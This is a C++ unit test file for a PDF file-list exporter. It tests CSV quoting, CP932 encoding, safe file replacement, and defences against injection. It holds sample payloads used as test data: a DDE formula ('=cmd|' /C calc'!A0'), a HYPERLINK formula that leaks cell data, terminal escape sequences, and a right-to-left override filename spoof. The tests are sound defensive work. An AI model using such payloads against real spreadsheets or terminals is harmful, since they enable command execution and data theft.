// SPDX-License-Identifier: GPL-3.0-or-later
#include "app/savedlist.h"

#include "common/errors.h"
#include "jtext/cp932.h"
#include "support/pdfbuilder.h"

#include <gtest/gtest.h>

#include <cstring>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

namespace {

ListRow Row(std::string name, RowCells cells, bool folder = false) {
    return ListRow{std::move(name), 0, folder, std::move(cells), {}};
}

const std::string kHeader = "  \"名前\",\"タイトル\",\"サブタイトル\",\"作成者\",\"キーワード\","
                            "\"PDF変換\",\"作成日\",\"暗号\",\"頁数\",\"容量\",\"PDFVer.\","
                            "\"サイズ\",\"種類\",\"更新日時\"\r\n";

const std::string kTableHeader = "名前,タイトル,サブタイトル,作成者,キーワード,PDF変換,作成日,"
                                 "暗号,頁数,容量,PDFVer.,サイズ,種類,更新日時\r\n";

std::string ReadAll(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    std::stringstream s;
    s << in.rdbuf();
    return s.str();
}

} // namespace

TEST(SavedList, ReproducesTheDocumentedExample) {
    const std::vector<ListRow> rows = {
        Row("..", {}, true),
        Row("Sub", {}, true),
        Row("a.pdf", {"Report", "", "Team A", "", "Writer 2.0", "2004/07/15 09:03:27", "無し", "12",
                      "123,456", "1.4", "121KB", ".PDF", "04/07/15 09:03:27"}),
        Row("b.pdf", {"***crypt***", "", "***crypt***", "", "***crypt***", "", "128", "3", "45,678",
                      "1.6", "45KB", ".PDF", "05/01/02 10:00:00"}),
        Row("notes.txt",
            {"", "", "", "", "", "", "", "", "", "", "1KB", ".TXT", "04/07/15 09:03:27"}),
    };
    const std::string expected =
        "ファイルの場所：/Docs/\r\n" + kHeader +
        "  a.pdf,Report,,\"Team A\",,\"Writer 2.0\",\"2004/07/15 09:03:27\",無し,12,\"123,456\","
        "1.4,121KB,.PDF,\"04/07/15 09:03:27\"\r\n"
        "  b.pdf,***crypt***,,***crypt***,,***crypt***,,128,3,\"45,678\",1.6,45KB,.PDF,"
        "\"05/01/02 10:00:00\"\r\n"
        "  notes.txt,,,,,,,,,,,1KB,.TXT,\"04/07/15 09:03:27\"\r\n" +
        kHeader + "合計：3ファイル\r\n";
    EXPECT_EQ(BuildSavedList("/Docs", rows, ListEncoding::Cp932), Utf8ToCp932(expected));
    EXPECT_EQ(BuildSavedList("/Docs/", rows, ListEncoding::Cp932), Utf8ToCp932(expected));

    // The same rows as a table for other programs: no location, no blanks before the names,
    // one header, no total; only what would split a field is quoted.
    const std::string table =
        "\xEF\xBB\xBF" + kTableHeader +
        "a.pdf,Report,,Team A,,Writer 2.0,2004/07/15 09:03:27,無し,12,\"123,456\",1.4,121KB,.PDF,"
        "04/07/15 09:03:27\r\n"
        "b.pdf,***crypt***,,***crypt***,,***crypt***,,128,3,\"45,678\",1.6,45KB,.PDF,"
        "05/01/02 10:00:00\r\n"
        "notes.txt,,,,,,,,,,,1KB,.TXT,04/07/15 09:03:27\r\n";
    EXPECT_EQ(BuildSavedList("/Docs", rows, ListEncoding::Utf8WithMark), table);
    EXPECT_EQ(BuildCsvTable(rows), table);
    EXPECT_EQ(BuildCsvTable({Row("..", {}, true)}), "\xEF\xBB\xBF" + kTableHeader);
}

TEST(SavedList, TheTableQuotesWhatWouldSplitAFieldOrLoseItsBlanks) {
    struct Case {
        std::string text, written;
    } cases[] = {
        {"plain.pdf", "plain.pdf"},
        {"two words.pdf", "two words.pdf"},
        {"a,b.pdf", "\"a,b.pdf\""},
        {"say \"hi\".pdf", "\"say \"\"hi\"\".pdf\""},
        {"\"", "\"\"\"\""},
        {" lead.pdf", "\" lead.pdf\""},
        {"trail.pdf ", "\"trail.pdf \""},
        {"\xE3\x80\x80全角.pdf", "\"\xE3\x80\x80全角.pdf\""}, // an ideographic space first
        {"line\nbreak.pdf", "\"line\nbreak.pdf\""},
        {"cr\r\nlf.pdf", "\"cr\r\nlf.pdf\""},
        {"tab\there", "\"tab\there\""},
        {"", ""},
    };
    for (const Case& c : cases) {
        // As a name and as the last cell, the places a reader gets wrong first.
        RowCells cells{};
        cells[kCellCount - 1] = c.text;
        const std::string table = BuildCsvTable({Row(c.text, cells)});
        EXPECT_EQ(table.substr(3 + kTableHeader.size()),
                  c.written + ",,,,,,,,,,,,," + c.written + "\r\n")
            << c.text;
    }
}

TEST(SavedList, FoldersOnlyNamesAndQuoting) {
    EXPECT_EQ(BuildSavedList("/", {Row("..", {}, true)}, ListEncoding::Cp932),
              Utf8ToCp932("ファイルの場所：/\r\n" + kHeader + kHeader + "合計：0ファイル\r\n"));
    struct Case {
        std::string name, title, line;
    } cases[] = {
        {"my file.pdf", "Say \"hi\"", "  my file.pdf,\"Say \"\"hi\"\"\",,,,,,,,,,,,"},
        {"a,b.pdf", "x", "  \"a,b.pdf\",x,,,,,,,,,,,,"},
        {"q\"t.pdf", "tab\there", "  \"q\"\"t.pdf\",\"tab\there\",,,,,,,,,,,,"},
    };
    for (const auto& c : cases) {
        RowCells cells{};
        cells[0] = c.title;
        const std::string text = BuildSavedList("/d", {Row(c.name, cells)}, ListEncoding::Cp932);
        EXPECT_NE(text.find("\r\n" + c.line + "\r\n"), std::string::npos) << text;
    }
    // A name the code page lacks keeps its place, with "?" for what cannot be written.
    const std::string cp932 = BuildSavedList("/d", {Row("café.pdf", {})}, ListEncoding::Cp932);
    EXPECT_NE(cp932.find("  caf?.pdf,"), std::string::npos);
}

TEST(SavedList, ALargeListHasEveryRowInItsPlace) {
    // A large list, sized at once, made in two halves on two threads and read with its rows'
    // texts fetched ahead, must read as its rows written one by one, folders left out and
    // counted out, as a list and as a table.
    std::vector<ListRow> rows;
    for (int i = 0; i < 9001; ++i) {
        RowCells cells{};
        cells[0] = "表題 " + std::to_string(i) + (i % 7 == 0 ? " \"q\"" : "");
        cells[7] = std::to_string(i % 300);
        rows.push_back(Row("f" + std::to_string(i) + ".pdf", cells, i % 1000 == 3));
    }
    for (const ListEncoding encoding : {ListEncoding::Cp932, ListEncoding::Utf8WithMark}) {
        const bool list = encoding == ListEncoding::Cp932;
        auto lineOf = [&](const ListRow& row) {
            // The one line of a list of that row alone: between its two header lines; of a
            // table, after its header.
            const std::string one = BuildSavedList("/d", {row}, encoding);
            const std::string header = list ? Utf8ToCp932(kHeader) : kTableHeader;
            const size_t from = one.find(header) + header.size();
            return one.substr(from, list ? one.rfind(header) - from : std::string::npos);
        };
        std::string expected;
        int files = 0;
        for (const ListRow& row : rows) {
            expected += lineOf(row);
            files += row.isFolder ? 0 : 1;
        }
        const std::string whole = BuildSavedList("/d", rows, encoding);
        if (!list) {
            EXPECT_EQ(whole, "\xEF\xBB\xBF" + kTableHeader + expected);
            continue;
        }
        const std::string footer = "合計：" + std::to_string(files) + "ファイル\r\n";
        EXPECT_NE(whole.find(expected), std::string::npos);
        EXPECT_TRUE(whole.ends_with(Utf8ToCp932(footer)));
    }
}

TEST(WriteFileSafely, ReplacesAndNeverLosesTheOldFile) {
    TempDir dir;
    const std::string path = dir.File("list.txt");
    WriteFileSafely(path, "first");
    WriteFileSafely(path, "second");
    EXPECT_EQ(ReadAll(path), "second");
    // A disk that fills half-way: the old file stays, no temporary file is left behind.
    int calls = 0;
    const WriteSome fillsUp = [&](int fd, const char* data, size_t count) -> long {
        if (++calls > 1) {
            errno = ENOSPC;
            return -1;
        }
        return long(::write(fd, data, std::min<size_t>(count, 3)));
    };
    EXPECT_THROW(WriteFileSafely(path, "a longer third version", fillsUp), EFCreateError);
    EXPECT_EQ(ReadAll(path), "second");
    EXPECT_EQ(std::distance(std::filesystem::directory_iterator(dir.Path()),
                            std::filesystem::directory_iterator()),
              1);
    ASSERT_EQ(::chmod(path.c_str(), 0444), 0);
    try {
        WriteFileSafely(path, "third");
        FAIL();
    } catch (const EFCreateError& e) {
        EXPECT_EQ(std::string(e.what()),
                  "ファイル " + path + " を作成できません（書き込みの権限がありません）");
    }
    EXPECT_EQ(ReadAll(path), "second");
    EXPECT_THROW(WriteFileSafely(dir.File("no/such/folder.txt"), "x"), EFCreateError);
}

// What a failed write says, and that it never leaves a changed or half-written target.
std::string FailureOf(const std::string& path, const std::string& bytes, const WriteSome& w = {}) {
    try {
        WriteFileSafely(path, bytes, w);
    } catch (const EFCreateError& e) {
        return e.what();
    }
    return {};
}

TEST(WriteFileSafely, FollowsLinksAndRefusesWhatIsNotARegularFile) {
    TempDir dir;
    std::filesystem::create_directory(dir.File("real"));
    const std::string target = dir.Write("real/list.txt", "old");
    ASSERT_EQ(::symlink("real/list.txt", dir.File("link.txt").c_str()), 0);
    ASSERT_EQ(::symlink("real/new.txt", dir.File("dangling.txt").c_str()), 0);
    ASSERT_EQ(::mkfifo(dir.File("fifo").c_str(), 0644), 0);
    // The link stays a link; the file it names gets the list, replaced in its own folder.
    WriteFileSafely(dir.File("link.txt"), "new");
    EXPECT_TRUE(std::filesystem::is_symlink(dir.File("link.txt")));
    EXPECT_EQ(ReadAll(target), "new");
    WriteFileSafely(dir.File("dangling.txt"), "made");
    EXPECT_TRUE(std::filesystem::is_symlink(dir.File("dangling.txt")));
    EXPECT_EQ(ReadAll(dir.File("real/new.txt")), "made");

    struct Case {
        std::string path, reason;
    } cases[] = {
        {dir.File("fifo"), "通常のファイルではありません"},
        {dir.File("real"), "フォルダです"},
        {dir.File("nowhere/list.txt"), "フォルダがありません"},
    };
    for (const Case& c : cases)
        EXPECT_EQ(FailureOf(c.path, "x"),
                  "ファイル " + c.path + " を作成できません（" + c.reason + "）");
    EXPECT_TRUE(std::filesystem::is_fifo(dir.File("fifo")));
    // A device node, where one can be made here (a null device: harmless either way).
    if (::mknod(dir.File("null").c_str(), S_IFCHR | 0666, makedev(1, 3)) == 0) {
        EXPECT_NE(FailureOf(dir.File("null"), "x").find("通常のファイルではありません"),
                  std::string::npos);
        struct stat st {};
        EXPECT_TRUE(::stat(dir.File("null").c_str(), &st) == 0 && S_ISCHR(st.st_mode));
    }
}

TEST(WriteFileSafely, SaysWhyAndKeepsTheOldFileOnEveryFailure) {
    TempDir dir;
    const std::string path = dir.Write("list.txt", "old");
    auto failingWith = [](int error) {
        return [error](int, const char*, size_t) -> long {
            errno = error;
            return -1;
        };
    };
    struct Case {
        int error;
        std::string reason;
    } cases[] = {
        {ENOSPC, "空き容量がありません"},
        {EDQUOT, "空き容量がありません"},
        {EACCES, "書き込みの権限がありません"},
        {EFBIG, "ファイルが大きすぎます"},
        {EIO, std::strerror(EIO)},
    };
    for (const Case& c : cases) {
        EXPECT_EQ(FailureOf(path, "new", failingWith(c.error)),
                  "ファイル " + path + " を作成できません（" + c.reason + "）");
        EXPECT_EQ(ReadAll(path), "old");
        EXPECT_EQ(std::distance(std::filesystem::directory_iterator(dir.Path()),
                                std::filesystem::directory_iterator()),
                  1);
    }
}

TEST(WriteFileSafely, AHardLinkedFileStaysOneFile) {
    TempDir dir;
    const std::string path = dir.Write("list.txt", "old contents");
    ASSERT_EQ(::link(path.c_str(), dir.File("other.txt").c_str()), 0);
    WriteFileSafely(path, "new");
    EXPECT_EQ(ReadAll(dir.File("other.txt")), "new");
    struct stat st {};
    ASSERT_EQ(::stat(path.c_str(), &st), 0);
    EXPECT_EQ(st.st_nlink, 2u);
}

TEST(WriteFileSafely, AFullFileSystemKeepsTheOldFile) {
    TempDir dir;
    const std::string small = dir.File("small");
    std::filesystem::create_directory(small);
    if (::system(("mount -t tmpfs -o size=64k tmpfs '" + small + "' 2>/dev/null").c_str()) != 0)
        GTEST_SKIP() << "no small file system can be mounted here (needs CAP_SYS_ADMIN)";
    const std::string path = small + "/list.txt";
    WriteFileSafely(path, "old");
    const std::string large(1 << 20, 'x');
    EXPECT_EQ(FailureOf(path, large),
              "ファイル " + path + " を作成できません（空き容量がありません）");
    EXPECT_EQ(ReadAll(path), "old");
    EXPECT_EQ(std::distance(std::filesystem::directory_iterator(small),
                            std::filesystem::directory_iterator()),
              1);
    ::system(("umount '" + small + "'").c_str());
}

TEST(SavedList, NamesAndCellsThatWouldBreakARowAreQuotedWhole) {
    RowCells cells{};
    cells[0] = std::string("Ti\0tle", 6);
    cells[1] = "two\nlines";
    const std::vector<ListRow> rows = {Row("a\nb.pdf", cells), Row("c, \"d\".pdf", {}),
                                       Row("tab\there.pdf", {})};
    const std::string list = BuildSavedList("/d", rows, ListEncoding::Cp932);
    EXPECT_NE(list.find("\r\n  \"a\nb.pdf\",Ti\\x00tle,\"two\nlines\","), std::string::npos)
        << list;
    EXPECT_NE(list.find("\r\n  \"c, \"\"d\"\".pdf\","), std::string::npos);
    EXPECT_NE(list.find("\r\n  \"tab\there.pdf\","), std::string::npos);
    EXPECT_EQ(list.find('\0'), std::string::npos);
    EXPECT_EQ(QuoteCell(std::string("a\0b", 3)), "\"ab\"");
}

TEST(SavedList, TextThatWouldActOnATerminalIsWrittenAsEscapes) {
    struct Case {
        const char* what;
        std::string text, written; // as title and as name; written in the list and the table
    } cases[] = {
        {"escape sequences", "T\x1b]0;PWNED\x07\x1b[2J", "T\\x1b]0;PWNED\\x07\\x1b[2J"},
        {"PDFDocEncoding controls", "a\x0e\x0b\x7f", "a\\x0e\\x0b\\x7f"},
        {"one-byte CSI", "x\u009b2J", "x\\u009b2J"},
        {"right-to-left override", "evil\u202efdp.exe", "evil\\u202efdp.exe"},
        {"isolate", "\u2067abc\u2069", "\\u2067abc\\u2069"},
        {"bytes that are not UTF-8", "\xff\xfe", "\\xff\\xfe"},
    };
    for (const Case& c : cases) {
        RowCells cells{};
        cells[0] = c.text;
        const std::vector<ListRow> rows = {Row(c.text, cells)};
        EXPECT_NE(BuildSavedList("/d", rows, ListEncoding::Cp932)
                      .find("\r\n  " + c.written + "," + c.written + ",,"),
                  std::string::npos)
            << c.what;
        EXPECT_NE(BuildCsvTable(rows).find("\r\n" + c.written + "," + c.written + ",,"),
                  std::string::npos)
            << c.what;
    }
    // A Shift-JIS name keeps its own bytes around the escape; the location stays one line.
    ListRow sjis = Row(Cp932ToUtf8("\x95\xf1\x1b.pdf"), {});
    sjis.nameBytes = "\x95\xf1\x1b.pdf";
    const std::string list = BuildSavedList("/d\x1b\n", {sjis}, ListEncoding::Cp932);
    EXPECT_TRUE(list.starts_with(Utf8ToCp932("ファイルの場所：/d\\x1b\\x0a/\r\n"))) << list;
    EXPECT_NE(list.find("\r\n  \x95\xf1\\x1b.pdf,"), std::string::npos) << list;
}

TEST(SavedList, TheTableMakesFormulasTextAndTheListKeepsThem) {
    struct Case {
        std::string text, inTable;
    } cases[] = {
        {"=HYPERLINK(\"http://x/?\"&A1)", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\""},
        {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
        {"+SUM(A1)", "'+SUM(A1)"},
        {"-2+3", "'-2+3"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\t=1", "\"'\t=1\""},
        {"\r=1", "\"'\r=1\""},
        {"-", "'-"},
        {"+", "'+"},
        {"-12", "-12"},
        {"+1.5", "+1.5"},
        {"-1,234", "\"-1,234\""},
        {"-1.", "'-1."},
        {"a=1", "a=1"},
        {"1+1", "1+1"},
        {"'=1", "'=1"},
    };
    for (const Case& c : cases) {
        RowCells cells{};
        cells[0] = c.text;
        const std::vector<ListRow> rows = {Row(c.text, cells)};
        EXPECT_EQ(BuildCsvTable(rows).substr(3 + kTableHeader.size()),
                  c.inTable + "," + c.inTable + ",,,,,,,,,,,,\r\n")
            << c.text;
        // The list for this program keeps the text as it is (quoted where its rule says).
        EXPECT_NE(
            BuildSavedList("/d", rows, ListEncoding::Cp932).find("," + QuoteCell(c.text) + ","),
            std::string::npos)
            << c.text;
    }
}
